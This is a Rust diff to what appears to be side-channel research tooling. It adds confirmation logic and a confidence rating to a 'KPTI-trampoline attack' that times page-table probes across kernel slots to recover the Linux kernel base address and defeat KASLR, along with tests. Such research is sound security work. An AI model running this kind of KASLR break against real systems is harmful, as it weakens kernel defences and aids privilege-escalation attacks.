@@ -12,11 +12,29 @@ use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS};
 
 use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
+use crate::decision::{ConfirmConfig, Confirmer};
 use crate::primitives::PageTableAttack;
 use crate::prober::Prober;
 use crate::recal::RecalConfig;
 
 use super::kaslr::PER_SLOT_OVERHEAD_CYCLES;
+
+/// How the scan arrived at its base — campaign rows use this to
+/// distinguish a *confirmed* trampoline from a first-mapped-slot guess
+/// made on ambiguous evidence.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+pub enum KptiConfidence {
+    /// No slot classified mapped; there is no base.
+    NoCandidate,
+    /// Exactly one mapped slot — unambiguous even without confirmation.
+    Unique,
+    /// Multiple mapped slots; the first was taken on faith (the legacy
+    /// first-wins rule, or a confirmation pass that rejected every
+    /// candidate and fell back to it).
+    GuessedFirst,
+    /// The decision layer re-tested the selected slot and confirmed it.
+    Confirmed,
+}
 
 /// Result of the trampoline hunt.
 #[derive(Clone, Debug)]
@@ -28,6 +46,8 @@ pub struct KptiScan {
     pub trampoline: Option<VirtAddr>,
     /// The derived kernel base (`trampoline − offset`).
     pub base: Option<VirtAddr>,
+    /// How the base was selected from the sweep evidence.
+    pub confidence: KptiConfidence,
     /// Probing cycles.
     pub probing_cycles: u64,
     /// Total cycles.
@@ -38,10 +58,19 @@ pub struct KptiScan {
     pub refits: u32,
 }
 
+impl KptiScan {
+    /// `true` when the base rests on ambiguous, unconfirmed evidence.
+    #[must_use]
+    pub fn ambiguous(&self) -> bool {
+        self.confidence == KptiConfidence::GuessedFirst
+    }
+}
+
 /// The KPTI-trampoline attack.
 #[derive(Clone, Copy, Debug)]
 pub struct KptiAttack {
     attack: PageTableAttack,
+    confirm: Option<ConfirmConfig>,
     /// Known trampoline offset for the target kernel build.
     pub trampoline_offset: u64,
 }
@@ -52,6 +81,7 @@ impl KptiAttack {
     pub fn new(threshold: Threshold, trampoline_offset: u64) -> Self {
         Self {
             attack: PageTableAttack::new(threshold),
+            confirm: None,
             trampoline_offset,
         }
     }
@@ -78,9 +108,19 @@ impl KptiAttack {
         self
     }
 
+    /// Re-tests candidate slots through the confirmation decision
+    /// layer ([`crate::decision`]) instead of trusting the first
+    /// mapped classification.
+    #[must_use]
+    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
+        self.confirm = Some(config);
+        self
+    }
+
     /// Scans the kernel region and derives the base from the first
-    /// mapped slot. The candidates are fed through the batched probe
-    /// pipeline.
+    /// mapped slot — or, with [`KptiAttack::with_confirmation`], from
+    /// the first slot that survives the confirmation protocol. The
+    /// candidates are fed through the batched probe pipeline.
     pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KptiScan {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
@@ -95,18 +135,42 @@ impl KptiAttack {
             .filter(|(_, &m)| m)
             .map(|(i, _)| i as u64)
             .collect();
-        let trampoline = mapped_slots
-            .first()
-            .map(|&slot| start.wrapping_add(slot * KASLR_ALIGN));
+        let legacy_confidence = match mapped_slots.len() {
+            0 => KptiConfidence::NoCandidate,
+            1 => KptiConfidence::Unique,
+            _ => KptiConfidence::GuessedFirst,
+        };
+        let mut confirm_probes = 0u64;
+        let (slot, confidence) = match self.confirm {
+            None => (mapped_slots.first().copied(), legacy_confidence),
+            Some(config) => {
+                let confirmer = Confirmer::new(&self.attack, config);
+                let found = confirmer.first_confirmed(
+                    p,
+                    mapped_slots
+                        .iter()
+                        .map(|&slot| (slot, start.wrapping_add(slot * KASLR_ALIGN))),
+                );
+                confirm_probes = found.probes;
+                match found.slot {
+                    Some(slot) => (Some(slot), KptiConfidence::Confirmed),
+                    // Every candidate failed its re-test: fall back to
+                    // the legacy guess rather than return nothing.
+                    None => (mapped_slots.first().copied(), legacy_confidence),
+                }
+            }
+        };
+        let trampoline = slot.map(|slot| start.wrapping_add(slot * KASLR_ALIGN));
         let base = trampoline
             .map(|t| VirtAddr::new_truncate(t.as_u64().wrapping_sub(self.trampoline_offset)));
         KptiScan {
             mapped_slots,
             trampoline,
             base,
+            confidence,
             probing_cycles: p.probing_cycles() - probing_before,
             total_cycles: p.total_cycles() - total_before,
-            probes: sweep.probes,
+            probes: sweep.probes + confirm_probes,
             refits: sweep.refits,
         }
     }
@@ -178,6 +242,35 @@ mod tests {
         assert_eq!(adaptive.base, Some(truth.kernel_base));
         assert_eq!(adaptive.mapped_slots, fixed.mapped_slots);
         assert!(adaptive.probes > 0 && fixed.probes > 0);
+    }
+
+    #[test]
+    fn unambiguous_scans_report_unique_confidence() {
+        let (mut p, truth) = kpti_prober(5, None);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let scan = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
+        assert_eq!(scan.mapped_slots.len(), 1);
+        assert_eq!(scan.confidence, KptiConfidence::Unique);
+        assert!(!scan.ambiguous());
+    }
+
+    #[test]
+    fn confirmation_keeps_the_quiet_answer_and_upgrades_confidence() {
+        let (mut p, truth) = kpti_prober(9, None);
+        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
+        let plain = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET).scan(&mut p);
+        let confirmed = KptiAttack::new(th, KPTI_TRAMPOLINE_OFFSET)
+            .with_confirmation(crate::decision::ConfirmConfig::default())
+            .scan(&mut p);
+        assert_eq!(confirmed.base, plain.base);
+        assert_eq!(confirmed.base, Some(truth.kernel_base));
+        assert_eq!(confirmed.confidence, KptiConfidence::Confirmed);
+        assert!(
+            confirmed.probes > plain.probes,
+            "the re-test spends extra probes: {} vs {}",
+            confirmed.probes,
+            plain.probes
+        );
     }
 
     #[test]
